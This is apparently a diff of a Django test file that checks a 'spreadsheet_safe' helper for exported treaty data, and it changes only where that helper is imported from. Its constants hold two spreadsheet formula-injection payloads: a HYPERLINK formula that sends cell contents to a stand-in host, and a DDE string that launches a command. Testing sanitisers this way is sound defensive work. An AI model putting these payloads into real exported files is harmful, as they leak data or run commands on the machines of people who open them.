@@ -8,8 +8,8 @@ import zipfile
 import pytest
 from django.urls import reverse
 
+from common.csvfiles import spreadsheet_safe
 from tests.factories import ParticipantFactory, RatificationFactory, StatementFactory, TreatyFactory
-from treaties.exports import spreadsheet_safe
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 CMD = "@SUM(1+1)*cmd|' /C calc'!A0"
